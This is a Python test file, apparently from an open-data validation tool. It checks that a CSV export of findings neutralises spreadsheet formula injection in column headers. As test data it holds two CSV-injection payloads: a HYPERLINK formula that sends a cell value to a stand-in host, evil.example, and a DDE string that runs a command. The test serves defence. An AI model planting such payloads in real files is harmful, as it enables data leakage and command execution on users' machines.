"""The findings download (`filas-a-corregir.csv`) neutralises formulas (issue 18, item 4): the
column headers it names are the organismo's own text."""

from __future__ import annotations

import csv

from datos_cali.findings import Finding, Kind, Severity
from datos_cali.ventanilla.checking import write_rows_to_fix

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ver")'


def test_a_header_that_is_a_formula_is_shown_as_text(tmp_path):
    findings = [
        Finding(
            kind=Kind.SCHEMA,
            code="no_es_numero",
            severity=Severity.BLOCK,
            column="valor",
            count=2,
            rows=[3, 7],
            message="2 filas con «valor» que no es un número.",
        ),
        Finding(
            kind=Kind.STRUCTURE,
            code="encabezado_repetido",
            severity=Severity.WARN,
            column="nota",
            message="El encabezado aparece repetido.",
        ),
    ]
    target = tmp_path / "filas-a-corregir.csv"
    lines = write_rows_to_fix(findings, {"valor": HOSTILE, "nota": "+cmd|' /C calc'!A0"}, target)
    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert lines == 3 and rows[0] == ["Fila", "Columna", "Problema", "Gravedad", "Código"]
    assert [r[0] for r in rows[1:]] == ["3", "7", ""]  # row numbers stay numbers
    assert [r[1] for r in rows[1:]] == ["'" + HOSTILE, "'" + HOSTILE, "'+cmd|' /C calc'!A0"]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
